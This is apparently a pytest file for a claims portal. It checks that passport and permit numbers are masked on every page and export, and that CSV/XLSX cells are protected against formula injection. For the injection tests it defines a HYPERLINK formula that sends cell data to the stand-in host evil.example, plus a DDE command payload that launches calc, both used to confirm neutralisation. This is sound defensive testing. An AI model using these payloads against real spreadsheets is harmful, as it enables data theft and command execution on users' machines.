"""ID masking for every ID type in every list and export; formula-safe cells in every CSV/XLSX (items 7, 8)."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from security_world import PEOPLE

from portal.domain.identity import mask_id
from portal.extensions import db
from portal.web.cells import FORMULA_STARTS, csv_text, safe_cell

PASSPORT, PERMIT = "EA12345678", "H1234567890"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


@pytest.mark.parametrize(("number", "id_type", "masked"), [
    (PEOPLE["a"][1], "id_card", PEOPLE["a"][1][:6] + "********" + PEOPLE["a"][1][-4:]),
    (PASSPORT, "passport", "EA*****678"),
    (PERMIT, "hk_macau_permit", "H1******890"),
    ("E1234567", "passport", "E*****67"),
    ("AB123", "taiwan_permit", "A**23"),
])
def test_mask_id_per_type(number, id_type, masked):
    assert mask_id(number, id_type) == masked
    shown = sum(1 for ch in masked if ch != "*")
    assert shown <= (10 if id_type == "id_card" else 5)


@pytest.fixture
def foreign_ids(world):
    world.person_a.id_type, world.person_a.id_number = "passport", PASSPORT
    world.person_b.id_type, world.person_b.id_number = "hk_macau_permit", PERMIT
    db.session.commit()
    return world


def _zip(client, url) -> zipfile.ZipFile:
    with client.get(url) as response:
        assert response.status_code == 200 and "no-store" in response.headers["Cache-Control"]
        return zipfile.ZipFile(io.BytesIO(response.data))


def _pages(world):
    a, b = world.case_a, world.case_b
    return {
        "auditor": ["/audit/cases", f"/audit/cases/{a.id}", f"/audit/cases/{b.id}", "/audit/reports", "/audit/log"],
        "supervisor": ["/staff/?tab=all", "/staff/admin/assignments?assignee=all", "/staff/admin/holidays/provisional",
                       f"/staff/cases/{a.id}", f"/staff/cases/{b.id}", f"/staff/intake/{world.person_a.id}"
                       "?line=green_outpatient"],
        "insured_a": ["/me/"],
    }


def test_no_page_shows_a_full_passport_or_permit_number(login_as, foreign_ids):
    w = foreign_ids
    clients = {"auditor": login_as(w.auditor), "supervisor": login_as(w.supervisor), "insured_a": login_as(w.insured_a)}
    seen_masked = 0
    for role, paths in _pages(w).items():
        for path in paths:
            body = clients[role].get(path).get_data(as_text=True)
            assert PASSPORT not in body and PERMIT not in body, (role, path)
            seen_masked += ("EA*****678" in body) + ("H1******890" in body)
    assert seen_masked >= 6
    found = clients["supervisor"].post("/staff/intake", data={"policy_no": w.case_a.policy.policy_no})
    assert PASSPORT not in found.get_data(as_text=True)


def test_the_case_export_masks_every_id_type(login_as, foreign_ids):
    client = login_as(foreign_ids.auditor)
    pairs = ((foreign_ids.case_a, PASSPORT, "EA*****678"), (foreign_ids.case_b, PERMIT, "H1******890"))
    for case, full, masked in pairs:
        archive = _zip(client, f"/audit/cases/{case.id}/export.zip")
        for name in archive.namelist():
            if name.endswith((".txt", ".csv")):
                assert full.encode() not in archive.read(name), name
        assert masked in archive.read("case.txt").decode()


def test_auditor_id_search_is_a_post_and_finds_the_case(login_as, foreign_ids):
    client = login_as(foreign_ids.auditor)
    response = client.post("/audit/search/id-number", data={"id_number": PASSPORT})
    assert response.status_code == 200
    assert foreign_ids.case_a.ref in response.get_data(as_text=True)
    assert foreign_ids.case_b.ref not in response.get_data(as_text=True)
    by_get = client.get("/audit/cases", query_string={"q": PEOPLE["b"][1]})
    assert by_get.status_code == 422  # a full ID number in the URL is refused, not searched
    by_get = client.get("/audit/cases", query_string={"q": PASSPORT})  # GET never searches ID numbers
    assert by_get.status_code == 200 and foreign_ids.case_a.ref not in by_get.get_data(as_text=True)


def test_safe_cell_neutralises_formula_starts():
    for start in FORMULA_STARTS:
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("王五") == "王五" and safe_cell(-3) == -3 and safe_cell(None) is None
    assert list(csv.reader(io.StringIO(csv_text([[EVIL]], bom=False))))[0][0] == "'" + EVIL


def _cells_from_csv(text: str):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_every_export_writes_typed_text_as_text(login_as, world):
    world.insured_a.display_name = EVIL
    world.person_a.name = EVIL
    world.hospital.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    db.session.commit()
    from portal.domain import lifecycle

    lifecycle.perform(world.case_a, "note", actor=world.c1, text="-2+3 内部备注")
    db.session.commit()
    client = login_as(world.auditor)
    archive = _zip(client, f"/audit/cases/{world.case_a.id}/export.zip")
    cells = [c for name in archive.namelist() if name.endswith(".csv")
             for c in _cells_from_csv(archive.read(name).decode())]
    cells += _cells_from_csv(client.get(f"/audit/weekly/{world.weekly.id}/report.csv").get_data(as_text=True))
    book = load_workbook(io.BytesIO(client.get(f"/audit/weekly/{world.weekly.id}/report.xlsx").data))
    cells += [c.value for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
